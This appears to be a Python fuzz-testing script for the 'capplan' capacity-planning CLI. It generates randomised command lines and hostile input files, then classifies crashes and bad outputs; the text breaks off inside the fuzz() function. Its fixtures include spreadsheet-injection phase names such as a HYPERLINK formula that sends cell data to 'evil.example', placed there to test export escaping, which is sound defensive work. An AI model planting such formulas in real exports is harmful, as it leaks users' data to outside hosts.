"""Fuzz the capplan command line: randomised command lines over every command (issue 18).

Run:  python benchmarks/fuzz_cli.py --count 10000 --seed 0 [--workers 2] [--timeout 30]
      [--json report.json]

Each line is drawn from the typer app itself (every command and subcommand, every option
with its type), with valid, extreme (0, -1, nan, inf, 1e400, 2**63, ...) and malformed
values (empty, unicode, newlines, unknown ids), user files (good, invalid, Latin-1,
UTF-16, binary, bad TOML; scenarios with phases named like formulas or mathtext and with
invalid [uncertainty] spreads), catalog directories (good, bad, symlink loop, /, /proc,
price files with bad cells, a byte-order mark or over the size limit) and
output targets (missing directory, a directory, an existing file, /proc, '').  Line ``i``
of seed ``S`` is the same on every machine (``random.Random(f"{S}:{i}")``).

Lines run in-process (``planner.cli.main.main(argv)``) in worker processes, one line at
a time each; a worker that spends more than ``--timeout`` seconds of CPU time on a line
(or twenty times that in wall time) is killed and the line counted as a hang; a worker's address space is capped (``--memory-gb``) so a memory bomb
fails fast instead of taking the machine down.  Each run is checked for

- a traceback (an exception escaping ``main``, or "Traceback" on stderr),
- an exit code outside {0, 1, 2, 130},
- error output on stderr that is not exactly one line,
- a Python warning on stderr (``RuntimeWarning: overflow ...``), whatever the exit code,
- with ``-f json`` and exit 0: a non-finite or negative physical output (days, cost,
  energy, CO2e, times, power, bytes, ...),

and the failures are grouped into classes, each reported with its count and its shortest
reproducer.  The exit status is 1 when any run failed.  Never generated: ``--debug``
(a traceback by design) and ``validate --write-docs`` (writes into the source tree).
"""

from __future__ import annotations

import argparse
import codecs
import contextlib
import io
import json
import math
import multiprocessing
import os
import re
import shlex
import shutil
import sys
import tempfile
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

#: Exit codes the CLI may return: ok, no plan meets the constraints, usage/input error, ^C.
ALLOWED_EXIT_CODES = {0, 1, 2, 130}
#: Value categories a line may draw from (the in-process test selects some of them).
CATEGORIES = ("valid", "extreme", "malformed", "newline", "files", "outputs")
#: Options never generated (see the module docstring).
NEVER = {"--debug", "--write-docs", "--help"}

INT_VALID = ["1", "2", "4", "8", "16", "64", "128", "1024"]
INT_EXTREME = ["0", "-1", "-8", "2147483648", "9223372036854775808", "18446744073709551616",
               "1" + "0" * 40]
INT_MALFORMED = ["", "abc", "1.5", "1e3", "\u0663", "0x10", " 8 ", "nan", "inf", "8 GPUs"]
FLOAT_VALID = ["0.5", "1", "2.5", "10"]
FLOAT_EXTREME = ["0", "-0", "-1", "nan", "NaN", "inf", "-inf", "Infinity", "1e400", "-1e400",
                 "1e-320", "1e308", "18446744073709551616"]
FLOAT_MALFORMED = ["", "x", "1,5", "1e", "--", "\u00bd", "ten"]
STR_MALFORMED = ["", "nonexistent", "h100", "\u00fcn\u00efc\u00f8d\u00e9-\u2713", "-", "x" * 300,
                 "../", "\U0001f4a5", " ", "all,all", ","]
NEWLINES = ["a\nb", "h100-sxm\n", "\nllama3-8b", "x\r\ny"]

#: Valid values of options whose meaning restricts them (by option name).
VALID = {
    "gpus": ["8", "16", "64", "512", "1024", "4096"], "tp": ["1", "2", "4", "8"],
    "pp": ["1", "2", "4", "8"], "vp": ["1", "2"], "cp": ["1", "2"], "ep": ["1", "2", "8"],
    "etp": ["1", "2", "8"],
    "zero": ["0", "1", "2", "3"], "micro_batch": ["1", "2", "4"],
    "global_batch": ["256", "512", "1024", "2048"], "seq_len": ["2048", "4096", "8192"],
    "min_gpus": ["8", "64", "128"], "max_gpus": ["64", "256", "1024", "4096", "16384"],
    "replicas": ["10", "100", "1000"], "draws": ["50", "200"], "seed": ["0", "1", "42"],
    "top": ["5", "15"], "gpus_per_node": ["4", "8"],
    "tokens": ["1e9", "1e11", "1e12", "2e12", "15e12"],
    "deadline_days": ["30", "90", "365", "inf"], "budget_usd": ["1e6", "5e7", "1e9"],
    "max_power_mw": ["1", "30", "100"], "knee_threshold": ["0.5", "0.8", "0.9"],
    "gpu_mtbf_hours": ["50000", "100000"], "node_mtbf_hours": ["20000", "80000"],
    "params": ["7e9", "70e9", "405e9"], "bytes_per_param": ["14", "16"],
    "storage_write_gbps": ["100", "2000"], "storage_read_gbps": ["200", "2000"],
    "host_copy_gbps": ["10", "25"], "peer_copy_gbps": ["25", "100"],
    "restart_minutes": ["5", "10", "30"], "train_days": ["10", "54"],
    "weibull_shape": ["0.7", "1", "1.5"],
    "objective": ["time", "cost", "energy", "carbon"], "precision": ["bf16", "fp8", "tf32"],
    "checkpoint": ["sync", "async", "in-memory"], "cost_basis": ["cloud", "tco"],
    "recompute": ["none", "selective", "full"], "component_age": ["stationary", "new"],
    "as": ["text", "latex", "python", "excel"],
    "format": ["table", "json", "csv", "markdown", "json", "json"],
    "dataset": ["sc21", "full-runs", "vtrain-multi", "llm-foundry-h100", "sc21,full-runs"],
    "module": ["compute", "memory", "checkpoint", "straggler", "energy"],
}
#: Options whose huge (or tiny) values are known to hang or exhaust memory (issue 18:
#: divisor search up to sqrt(global batch), simulated replicas and failures).
HANG_PRONE = {"global_batch", "replicas", "draws", "weibull_shape", "max_gpus", "min_gpus",
              "gpus", "seq_len", "micro_batch", "top", "train_days", "gpu_mtbf_hours",
              "node_mtbf_hours", "tokens"}
#: Share of lines (with the "files" category) that give a command taking --scenario or
#: --catalog one of the hostile fixtures (phase names, spreads, price files): among a dozen
#: files of each role and many options they would be drawn once in a few hundred lines.
HOSTILE_SHARE = 0.08
#: Commands drawn less often (slow: matplotlib, every published measurement).
WEIGHT = {("validate",): 0.3, ("plot",): 0.5, ("export", "xlsx"): 0.5}

SHAPE = "layers = 4\nhidden = 256\nheads = 4\nvocab = 1000\nseq_len = 512\n"
CHIP = "\n".join([
    'node = "dgx-h100"', "peak_bf16_flops_per_s = 1.2e15", "hbm_bytes = 141e9",
    "hbm_bandwidth_bytes_per_s = 4.8e12", "max_power_w = 700", "idle_power_w = 100",
    "scale_up_domain_gpus = 8", "scale_up_bandwidth_bytes_per_s = 450e9",
    "gemm_max_efficiency = 0.6", "gemm_half_efficiency_dim = 256", "hbm_efficiency = 0.9",
    "scale_up_bus_efficiency = 0.8", "scale_out_bus_efficiency = 0.85",
    "purchase_price_usd = 30000", "cloud_price_usd_per_gpu_hour = 5",
    "embodied_kg_co2e = 150", "lifetime_years = 4", ""])
SCENARIO = ('model = "llama3-8b"\ntokens = 1e11\nhardware = "h100-sxm,mi300x"\nmax_gpus = 512\n'
            'site = "us-average"\nobjective = "time"\n')
#: Names a hostile user gives phases: spreadsheet formulas (OWASP CSV injection) and
#: mathtext (matplotlib reads "$x^$" as a formula); the exports must keep them as text.
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/"&A1,"click")', "+1", "-cmd", "@SUM(1)",
                 "\t=1", "$x^$"]
#: [uncertainty] spreads no plan may use: a non-finite, huge or negative sigma, a scope
#: that does not exist (each a one-line refusal, exit 2, or a correct answer).
HOSTILE_SPREADS = {"nan": '{ sigma = nan, scope = "shared" }', "huge": "{ sigma = 1e6 }",
                   "negative": "{ sigma = -1 }", "scope": '{ sigma = 0.1, scope = "galaxy" }',
                   "inf": "{ sigma = inf }"}
#: A price file's header, and one good row (8 x H100 at 24 USD an hour).
PRICE_HEADER = ("provider,instance_type,accelerator,accelerator_count,gpu_memory_gib,region,"
                "on_demand_usd_per_hour,spot_usd_per_hour,on_demand_usd_per_gpu_hour,"
                "spot_usd_per_gpu_hour,marketplace,source_path,source_commit\n")
PRICE_ROW = "fuzzcloud,x8,H100,{count},80,r1,{price},,,,false,fuzz,local\n"
#: Price files with a bad cell (count, instance price), each under its own --catalog DIR.
HOSTILE_PRICES = {"count-inf": ("inf", "24"), "count-huge": ("1e308", "24"),
                  "count-zero": ("0", "24"), "count-2000": ("2000", "24"),
                  "price-denormal": ("8", "1e-320"), "price-huge": ("8", "1e308"),
                  "price-negative": ("8", "-3"), "price-nan": ("8", "nan"),
                  "price-text": ("8", "cheap"), "provider-formula": ("8", "24")}


# --- fixtures ------------------------------------------------------------------------------
def make_fixtures(root: Path) -> dict[str, list[str]]:
    """Write the input files and directories lines refer to; their paths by role."""
    root.mkdir(parents=True, exist_ok=True)

    def put(rel: str, data: str | bytes) -> str:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, encoding="utf-8")
        return str(path)

    from hardware_catalog.loader import DATA_DIR
    from hardware_catalog.price_schema import MAX_PRICE_FILE_BYTES

    latin = (SHAPE + 'name = "caf\u00e9"\n')
    models = [
        put("m/tiny.toml", SHAPE), put("m/llama3-8b.toml",
                                       (DATA_DIR / "models" / "llama3-8b.toml").read_text()),
        put("m/bad.toml", 'hidden = -1\nheads = 0\nvocab = "x"\nseq_len = 64\n'),
        put("m/latin1.toml", latin.encode("latin-1")), put("m/utf16.toml", latin.encode("utf-16")),
        put("m/binary.toml", b"layers = 4\n\0\0\0\xff"), put("m/broken.toml", "layers = [\n"),
        put("m/huge-shape.toml", SHAPE.replace("hidden = 256", "hidden = 1048576")),
        put("m/wrong-kind.toml", 'kind = "site"\n' + SHAPE),
    ]
    chips = [put("h/chip.toml", CHIP), put("h/chip-bad.toml", CHIP.replace("700", "-700")),
             put("h/chip-missing.toml", CHIP.split("hbm_efficiency")[0]),
             put("h/latin1.toml", (CHIP + '# caf\u00e9\n').encode("latin-1"))]
    scenarios = [put("s/good.toml", SCENARIO), put("s/unknown-key.toml", SCENARIO + "colour = 1\n"),
                 put("s/wrong-type.toml", SCENARIO.replace("1e11", '"many"')),
                 put("s/nan.toml", SCENARIO.replace("1e11", "nan")),
                 put("s/latin1.toml", (SCENARIO + 'site = "caf\u00e9"\n').encode("latin-1")),
                 put("s/utf16.toml", SCENARIO.encode("utf-16")),
                 put("s/bom.toml", codecs.BOM_UTF8 + SCENARIO.encode()),
                 put("s/broken.toml", "model = \n")]
    phases = "".join(f"\n[[phases]]\nname = {json.dumps(name)}\ntokens = 1e10\n"
                     for name in HOSTILE_NAMES)
    scenarios.append(put("s/hostile-names.toml", 'model = "llama3-8b"\nhardware = "h100-sxm"\n'
                         "max_gpus = 256\n" + phases))
    scenarios += [put(f"s/spread-{name}.toml", SCENARIO + f"[uncertainty]\ngpu_mtbf_s = {spread}\n")
                  for name, spread in HOSTILE_SPREADS.items()]
    prices = []
    for name, (count, price) in HOSTILE_PRICES.items():
        row = PRICE_ROW.format(count=count, price=price)
        if name == "provider-formula":
            row = row.replace("fuzzcloud", "=HYPERLINK(1)")
        put(f"p-{name}/prices/x.csv", PRICE_HEADER + row)
        prices.append(str(root / f"p-{name}"))
    put("p-bom/prices/x.csv", codecs.BOM_UTF8 + (PRICE_HEADER + PRICE_ROW.format(
        count="8", price="24")).encode())
    put("p-oversize/prices/x.csv", PRICE_HEADER + "#" * MAX_PRICE_FILE_BYTES)
    prices += [str(root / "p-bom"), str(root / "p-oversize")]
    hostile = {"scenario": scenarios[-1 - len(HOSTILE_SPREADS):], "catalog": prices}
    put("c-good/models/what-if.toml", SHAPE)
    put("c-good/accelerators/chip-x.toml", CHIP)
    put("c-bad/models/bad.toml", "layers = -3\n")
    put("c-enc/models/latin.toml", latin.encode("latin-1"))
    (root / "c-loop" / "models").mkdir(parents=True, exist_ok=True)
    put("c-loop/models/what-if.toml", SHAPE)
    with contextlib.suppress(FileExistsError):
        os.symlink(root / "c-loop", root / "c-loop" / "models" / "loop")
    catalogs = [str(root / "c-good"), str(root / "c-bad"), str(root / "c-enc"),
                str(root / "c-loop"), str(root / "no-such-dir"), models[0], "/", "/proc",
                *prices]
    return {"model": models, "hardware": chips, "scenario": scenarios, "catalog": catalogs,
            "missing": [str(root / "missing.toml")], "not_a_dir": [models[0] + "/out.csv"],
            "hostile_scenario": hostile["scenario"], "hostile_catalog": hostile["catalog"]}


#: Output targets, relative to the run's own directory (``exists.json`` is created there).
OUTPUTS_VALID = ["out.json", "out.csv", "out.md", "out.txt", "-"]
OUTPUTS_BAD = ["", ".", "exists.json", "no/such/dir/out.csv", "/proc/capplan-fuzz.out",
               "NOT_A_DIR"]
PLOTS_VALID = ["fig.png", "fig.svg"]
PLOTS_BAD = ["", ".", "fig.gif", "exists.json", "no/such/dir/fig.png", "/proc/fig.png"]


# --- the grammar ---------------------------------------------------------------------------
class RandomPick:
    """Choices from a seeded ``random.Random`` (the script)."""

    def __init__(self, rng):
        self.rng = rng

    def choice(self, seq):
        return self.rng.choice(list(seq))

    def integer(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)

    def chance(self, p: float) -> bool:
        return self.rng.random() < p


@dataclass
class Param:
    name: str
    flag: str  # the long option, or "" for an argument
    kind: str  # int | float | str | bool | list[str]
    required: bool
    nargs: int
    secondary: str = ""  # --no-x of a --x/--no-x flag


@dataclass
class Command:
    path: tuple[str, ...]
    params: list[Param] = field(default_factory=list)


def commands() -> list[Command]:
    """Every leaf command of the capplan app with its parameters (from the app itself)."""
    from typer.main import get_command

    from planner.cli.app import app

    found: list[Command] = []

    def walk(cmd, path):
        if hasattr(cmd, "commands"):
            for name, sub in cmd.commands.items():
                walk(sub, (*path, name))
            return
        params = []
        for p in cmd.params:
            if p.param_type_name == "option":
                flag = max(p.opts, key=len)
                if flag in NEVER or flag == "-h":
                    continue
                params.append(Param(p.name, flag, p.bare_type(), p.required, p.nargs,
                                    max(p.secondary_opts, key=len) if p.secondary_opts else ""))
            else:
                params.append(Param(p.name, "", p.bare_type(), p.required, p.nargs))
        found.append(Command(path, params))

    walk(get_command(app), ())
    return found


class Grammar:
    """Random command lines over every command; ``categories`` limits the value kinds."""

    def __init__(self, fixtures: dict[str, list[str]], categories=CATEGORIES,
                 whole_layouts: bool = False, hang_free: bool = False,
                 bad_share: float = 0.25, always: tuple[str, ...] = ()):
        from formulas import registry
        from hardware_catalog import load_catalog

        self.fixtures = fixtures
        self.categories = set(categories)
        #: --gpus always equal to TP x PP x CP x DP (the in-process test's valid lines)
        self.whole_layouts = whole_layouts
        #: no huge sizes where they are known to hang or exhaust memory (in-process tests
        #: cannot time a line out; the script can)
        self.hang_free = hang_free
        #: share of values drawn bad (extreme, malformed, multi-line) where allowed
        self.bad_share = bad_share
        #: options put on every line that has them (e.g. "output")
        self.always = set(always)
        self.commands = commands()
        cat = load_catalog()
        self.ids = {"model": list(cat.models), "hardware": list(cat.accelerators),
                    "site": list(cat.sites), "reliability": list(cat.reliability)}
        self.all_ids = cat.all_ids()
        self.formulas = {name: [a.name for a in f.arguments] for name, f in registry().items()}

    # values ------------------------------------------------------------------------------
    def _bad(self, pick, kind: str, name: str = "") -> str | None:
        """An extreme, malformed or multi-line value of this type, if such are allowed."""
        pools = []
        if "extreme" in self.categories and kind in ("int", "float"):
            pool = INT_EXTREME if kind == "int" else FLOAT_EXTREME
            if self.hang_free and name in HANG_PRONE:
                pool = [v for v in pool if v in ("0", "-1", "-8", "-0", "-inf", "nan", "NaN")]
            pools.append(pool)
        if "malformed" in self.categories:
            pools.append({"int": INT_MALFORMED, "float": FLOAT_MALFORMED}.get(kind, STR_MALFORMED))
        if "newline" in self.categories:
            pools.append(NEWLINES)
        return pick.choice(pick.choice(pools)) if pools else None

    def _path(self, pick, role: str) -> str | None:
        if "files" not in self.categories:
            return None
        pool = self.fixtures[role] + self.fixtures["missing"]
        return pick.choice(pool)

    def _output(self, pick, plot: bool) -> str:
        good, bad = (PLOTS_VALID, PLOTS_BAD) if plot else (OUTPUTS_VALID, OUTPUTS_BAD)
        if "outputs" in self.categories and pick.chance(0.4):
            value = pick.choice(bad)
            return self.fixtures["not_a_dir"][0] if value == "NOT_A_DIR" else value
        return pick.choice(good)

    def _valid(self, pick, param: Param, command: Command) -> str:
        name = param.name
        if name in ("model", "hardware", "site", "reliability"):
            ids = self.ids[name if name != "reliability" else "reliability"]
            extra = ["all", "h100-sxm,mi300x", "a100-80gb,b200"] if (
                name == "hardware" and command.path in (("plan",), ("sweep",), ("plot",))) else []
            if name == "reliability":
                extra = ["default"]
            return pick.choice(ids + extra)
        if name in ("scenario", "scenario_file"):  # --scenario's parameter: scenario_file
            return self.fixtures["scenario"][0]
        if name == "catalog":
            return self.fixtures["catalog"][0]
        if name == "name" and command.path[0] == "formula":
            return pick.choice(sorted(self.formulas))
        if name == "name":
            return pick.choice(self.all_ids)
        if name == "kind" and command.path == ("catalog", "list"):
            return pick.choice(["accelerators", "nodes", "sites", "models", "reliability"])
        if name == "kind":
            return pick.choice(["accelerator", "node", "site", "model", "reliability"])
        if name in VALID:
            return pick.choice(VALID[name])
        return pick.choice({"int": INT_VALID, "float": FLOAT_VALID}.get(param.kind, ["x"]))

    def value(self, pick, param: Param, command: Command) -> str:
        if param.name in ("output", "path") or (param.name == "plot"):
            return self._output(pick, plot=param.name == "plot" or command.path == ("plot",))
        role = {"model": "model", "hardware": "hardware", "scenario": "scenario",
                "scenario_file": "scenario", "catalog": "catalog"}.get(param.name)
        if param.name == "name" and command.path == ("catalog", "show"):
            role = "model"
        roll = pick.integer(0, 99)
        if role and roll < 25:
            path = self._path(pick, role)
            if path is not None:
                return path
        if roll >= 100 - 100 * self.bad_share:
            bad = self._bad(pick, param.kind, param.name)
            if bad is not None:
                return bad
        return self._valid(pick, param, command)

    def assignments(self, pick, name: str) -> list[str]:
        args = self.formulas.get(name) or ["x"]
        out = []
        for arg in args:
            if pick.chance(0.8):
                value = self._bad(pick, "float") if pick.chance(0.2) else None
                out.append(f"{arg}={value if value is not None else pick.choice(FLOAT_VALID)}")
        if "malformed" in self.categories and pick.chance(0.1):
            out.append(pick.choice(["=1", "nosuch=1", "x", "a=b=c"]))
        return out

    # lines ------------------------------------------------------------------------------
    def line(self, pick) -> list[str]:
        if "files" in self.categories and pick.chance(HOSTILE_SHARE):
            return self.hostile_line(pick)
        weights = [WEIGHT.get(c.path, 1.0) for c in self.commands]
        total = sum(weights)
        spot, acc = pick.integer(0, 10_000) / 10_000 * total, 0.0
        command = self.commands[-1]
        for cmd, w in zip(self.commands, weights, strict=True):
            acc += w
            if spot <= acc:
                command = cmd
                break
        return self.line_for(pick, command)

    def hostile_line(self, pick) -> list[str]:
        """A line of a command taking --scenario (or --catalog) given a hostile fixture:
        a scenario with formula/mathtext phase names or invalid spreads, a catalog with a
        bad price file."""
        role = pick.choice(["scenario", "catalog"])
        takers = [(c, p.name) for c in self.commands for p in c.params
                  if p.flag == f"--{role}"]
        command, name = pick.choice(takers)
        return self.line_for(pick, command,
                             {name: pick.choice(self.fixtures[f"hostile_{role}"])})

    def line_for(self, pick, command: Command, forced: dict[str, str] | None = None,
                 ) -> list[str]:
        """A line of ``command``; ``forced``: options always given, with these values."""
        forced = forced or {}
        argv = list(command.path)
        options = [p for p in command.params if p.flag]
        arguments = [p for p in command.params if not p.flag]
        chosen = [p for p in options if p.required or p.name in self.always
                  or p.name in forced]
        optional = [p for p in options if not p.required]
        for _ in range(pick.integer(0, min(6, len(optional)))):
            p = pick.choice(optional)
            if p not in chosen:
                chosen.append(p)
        layout = ("gpus", "tp", "pp", "cp", "ep", "vp")
        if self.whole_layouts and any(p.name == "tp" for p in options):
            chosen = [p for p in chosen if p.name not in layout]
            tp, pp, cp, dp = (int(pick.choice(v)) for v in (
                ["1", "2", "4", "8"], ["1", "2", "4"], ["1", "2"], ["1", "2", "4", "16"]))
            argv += ["--gpus", str(tp * pp * cp * dp), "--tp", str(tp), "--pp", str(pp),
                     "--cp", str(cp)]
        fmt = next((p for p in options if p.name == "format"), None)
        if fmt is not None and fmt not in chosen and pick.chance(0.5):
            argv += ["-f", "json"]
        for p in chosen:
            if p.name in forced:
                argv += [p.flag, forced[p.name]]
            elif p.kind == "bool":
                argv.append(p.secondary if p.secondary and pick.chance(0.5) else p.flag)
            else:
                argv += [p.flag, self.value(pick, p, command)]
        name = None
        for p in arguments:
            if p.nargs == -1:
                argv += self.assignments(pick, name or "")
            elif p.required or pick.chance(0.7):
                value = self.value(pick, p, command)
                name = value if p.name == "name" else name
                argv.append(value)
        return argv


# --- checks --------------------------------------------------------------------------------
#: Keys of physical outputs that must be finite and >= 0 in a successful JSON answer.
PHYSICAL = re.compile(r"(^|_)(days|usd|cost|energy|mwh|kwh|joules|co2e|t|s|w|mw|bytes|flops|"
                      r"tflops|mfu|hfu|ettr|failures|hours|gpus|power)(_|$)")
NOT_PHYSICAL = re.compile(r"elasticit|delta|error|change|diff|pct|percent|slope|sensitiv|"
                          r"rank|seed|log|z_|ratio|bias|saved|saving")  # signed by definition
#: Subtrees that echo inputs (checked by the input domains, not here) or hold
#: dimensionless derivatives named after outputs (sensitivity elasticities may be < 0).
SKIP_KEYS = {"scenario", "setting", "inputs", "input", "arguments", "assignments", "elasticities",
             "price", "prices"}  # resolved price inputs and their spread (null: no data)


def physical_problems(data, path: str = "") -> list[tuple[str, str]]:
    """``(kind, key)`` for every non-finite or negative physical number in ``data``."""
    found: list[tuple[str, str]] = []
    if isinstance(data, dict):
        for key, value in data.items():
            key = str(key)
            if key in SKIP_KEYS:
                continue
            if isinstance(value, dict | list):
                found += physical_problems(value, key)
            elif PHYSICAL.search(key) and not NOT_PHYSICAL.search(key):
                found += _number_problem(value, key)
    elif isinstance(data, list):
        for item in data:
            found += physical_problems(item, path)
    return found


def _number_problem(value, key: str) -> list[tuple[str, str]]:
    if isinstance(value, bool) or not isinstance(value, int | float | type(None)):
        return []
    if value is None or not math.isfinite(value):
        return [("non-finite", key)]
    if value < 0:
        return [("negative", key)]
    return []


@dataclass
class Outcome:
    argv: list[str]
    code: int | None
    stdout: str
    stderr: str
    error: str | None = None  # "Type at file:line" of an exception that escaped main
    seconds: float = 0.0


#: Lines that say how long work will take or how far it is (planner/cli/workload_options.py).
WORK_NOTICES = ("capplan: estimate: ", "capplan: progress: ")

#: A Python warning printed to stderr ("file:line: RuntimeWarning: overflow ..."): an
#: input the code did not expect reached numpy, whatever the exit code.
_WARNING = re.compile(r":\d+: (\w*Warning): ")
#: Commands that print catalog data, not model outputs (null there means "no data").
DATA_COMMANDS = {"prices", "catalog"}


def failures(outcome: Outcome) -> list[str]:
    """The failure classes of one run (empty: the run behaved)."""
    cmd = " ".join(a for a in outcome.argv[:2] if not a.startswith("-"))
    cmd = cmd if cmd.split(" ")[0] in ("formula", "catalog", "export") else cmd.split(" ")[0]
    found = []
    if outcome.error is not None:
        found.append(f"traceback: {outcome.error}")
    elif "Traceback (most recent call last)" in outcome.stderr:
        found.append(f"traceback on stderr in `{cmd}`")
    if outcome.code is not None and outcome.code not in ALLOWED_EXIT_CODES:
        found.append(f"exit code {outcome.code} in `{cmd}`")
    warning = _WARNING.search(outcome.stderr)
    if warning and outcome.error is None:
        found.append(f"{warning.group(1)} on stderr in `{cmd}`")
    if outcome.code not in (None, 0) and outcome.error is None:
        # the estimate of long work and progress lines come before the work, not as errors
        lines = [line for line in outcome.stderr.splitlines() if line.strip()
                 and not line.startswith(WORK_NOTICES)]
        if len(lines) != 1 and not outcome.stderr.startswith("Usage:"):
            found.append(f"error output of {len(lines)} lines in `{cmd}`")
    if outcome.code == 0 and _json_to_stdout(outcome.argv):
        try:
            data = json.loads(outcome.stdout)
        except ValueError:
            found.append(f"-f json output is not JSON in `{cmd}`")
        else:
            # catalog data (prices per provider, catalog entries) may be null: "no data";
            # the physical outputs are those of the model's commands
            checked = data if cmd.split(" ")[0] not in DATA_COMMANDS else {}
            for kind, key in sorted(set(physical_problems(checked))):
                found.append(f"{kind} {key} in `{cmd}` output")
    return found


def _json_to_stdout(argv: list[str]) -> bool:
    fmt = out = None
    for flag, value in zip(argv, argv[1:], strict=False):
        if flag in ("-f", "--format"):
            fmt = value
        if flag in ("-o", "--output"):
            out = value
    return fmt == "json" and out in (None, "-")


# --- running -------------------------------------------------------------------------------
def where(exc: BaseException) -> str:
    """``Type at file:line`` of the innermost frame of capplan's own code."""
    frames = traceback.extract_tb(exc.__traceback__)
    ours = [f for f in frames if str(ROOT) in f.filename and "benchmarks" not in f.filename
            and "tests" not in f.filename] or frames
    frame = ours[-1] if ours else None
    if frame is None:
        return type(exc).__name__
    rel = os.path.relpath(frame.filename, ROOT) if str(ROOT) in frame.filename else frame.filename
    return f"{type(exc).__name__} at {rel}:{frame.lineno} ({frame.name})"


def run_in_process(argv: list[str], columns: int | None = None) -> Outcome:
    """Run one command line through ``main`` with captured stdout/stderr."""
    from planner.cli.main import main

    out, err = io.StringIO(), io.StringIO()
    before = os.environ.get("COLUMNS")
    if columns:
        os.environ["COLUMNS"] = str(columns)
    start = time.perf_counter()
    error = None
    code: int | None = None
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(list(argv))
        except SystemExit as exc:  # main(argv) returns; a SystemExit is a bug too
            error = f"SystemExit({exc.code}) escaped main"
        except BaseException as exc:  # noqa: BLE001 - every escape is a finding
            error = where(exc)
        finally:
            if before is None:
                os.environ.pop("COLUMNS", None)
            else:
                os.environ["COLUMNS"] = before
    return Outcome(list(argv), code, out.getvalue(), err.getvalue(), error,
                   time.perf_counter() - start)


def _worker(conn, memory_gb: float) -> None:
    """Run lines sent over ``conn`` until None; send back the Outcome of each."""
    if memory_gb > 0:
        import resource

        limit = int(memory_gb * 2**30)
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    with contextlib.suppress(ImportError):
        import matplotlib

        matplotlib.use("Agg")
    while True:
        task = conn.recv()
        if task is None:
            return
        index, argv, run_dir, columns = task
        os.makedirs(run_dir, exist_ok=True)
        Path(run_dir, "exists.json").write_text("{}\n")
        os.chdir(run_dir)
        outcome = run_in_process(argv, columns)
        os.chdir(ROOT)
        shutil.rmtree(run_dir, ignore_errors=True)
        conn.send((index, outcome))


@dataclass
class Report:
    count: int = 0
    seconds: float = 0.0
    exit_codes: Counter = field(default_factory=Counter)
    classes: dict[str, list[str]] = field(default_factory=dict)  # class -> shortest argv
    indices: dict[str, int] = field(default_factory=dict)  # class -> its line index
    class_counts: Counter = field(default_factory=Counter)
    runs_failed: int = 0
    tracebacks: int = 0
    hangs: int = 0
    bad_outputs: int = 0

    def add(self, outcome: Outcome, found: list[str], index: int = -1) -> None:
        self.count += 1
        label = str(outcome.code)
        if outcome.code is None:
            label = "hang" if outcome.error is None else "traceback"
        self.exit_codes[label] += 1
        if found:
            self.runs_failed += 1
        self.tracebacks += any(f.startswith("traceback") for f in found)
        self.hangs += any(f.startswith("hang") for f in found)
        self.bad_outputs += any(f.startswith(("non-finite", "negative")) for f in found)
        for f in found:
            self.class_counts[f] += 1
            best = self.classes.get(f)
            if best is None or len(shlex.join(outcome.argv)) < len(shlex.join(best)):
                self.classes[f] = outcome.argv
                self.indices[f] = index

    def text(self, tmp: str) -> str:
        def show(argv):
            return _shown(argv, tmp)

        lines = [f"{self.count} command lines in {self.seconds:.0f} s: "
                 f"{self.runs_failed} failed ({self.tracebacks} tracebacks, {self.hangs} hangs, "
                 f"{self.bad_outputs} exit-0 runs with non-finite or negative outputs)",
                 "exit codes: " + ", ".join(f"{k}: {v}" for k, v in
                                            sorted(self.exit_codes.items()))]
        if self.classes:
            lines.append(f"{len(self.classes)} failure classes (count, shortest reproducer):")
        for name, count in self.class_counts.most_common():
            lines.append(f"  {count:6d}  {name}   (line {self.indices.get(name, '?')})\n"
                         f"          {show(self.classes[name])}")
        return "\n".join(lines)

    def as_dict(self, tmp: str) -> dict:
        return {"count": self.count, "seconds": round(self.seconds, 1),
                "runs_failed": self.runs_failed, "tracebacks": self.tracebacks,
                "hangs": self.hangs, "bad_outputs": self.bad_outputs,
                "exit_codes": dict(self.exit_codes),
                "classes": [{"class": k, "count": v, "line": self.indices[k],
                             "reproducer": _shown(self.classes[k], tmp)}
                            for k, v in self.class_counts.most_common()]}


def _shown(argv: list[str], tmp: str) -> str:
    text = shlex.join(["capplan", *argv])
    return text.replace(tmp, "$FUZZ") if tmp else text


def cpu_seconds(pid: int) -> float | None:
    """CPU time [s] a process has used (Linux /proc), None where unknown."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except (OSError, ValueError, IndexError):
        return None


def generate(count: int, seed: int, fixtures: dict, start: int = 0):
    """``(index, argv, columns)`` of lines ``start .. start + count - 1`` of ``seed``."""
    import random

    grammar = Grammar(fixtures)
    for index in range(start, start + count):
        rng = random.Random(f"{seed}:{index}")
        columns = rng.choice([None, 20, 40, 60, 80, 120, 200])
        yield index, grammar.line(RandomPick(rng)), columns


def _hung(slot: dict, timeout_s: float) -> bool:
    """More than ``timeout_s`` of CPU time on this line (wall time on a loaded machine says
    little), or ``20 x timeout_s`` of wall time whatever the CPU (blocked on I/O)."""
    wall = time.perf_counter() - slot["since"]
    cpu_now = cpu_seconds(slot["proc"].pid)
    if cpu_now is None or slot.get("cpu") is None:
        return wall > timeout_s
    return cpu_now - slot["cpu"] > timeout_s or wall > 20 * timeout_s


def fuzz(count: int, seed: int = 0, workers: int = 2, timeout_s: float = 30.0,
         memory_gb: float = 4.0, start: int = 0, progress=None,
         max_seconds: float = math.inf) -> tuple[Report, str]:
    """Run ``count`` lines in ``workers`` processes; the Report and the fixture root.

    After ``max_seconds`` no new line starts (the report then covers fewer lines)."""
    tmp = tempfile.mkdtemp(prefix="capplan-fuzz-")
    began = time.perf_counter()
    fixtures = make_fixtures(Path(tmp) / "fixtures")
    tasks = list(generate(count, seed, fixtures, start))
    report = Report()
    ctx = multiprocessing.get_context("fork")
    slots: list[dict] = []

    def spawn():
        parent, child = ctx.Pipe()
        proc = ctx.Process(target=_worker, args=(child, memory_gb), daemon=True)
        proc.start()
        return {"proc": proc, "conn": parent, "task": None, "since": 0.0}

    try:
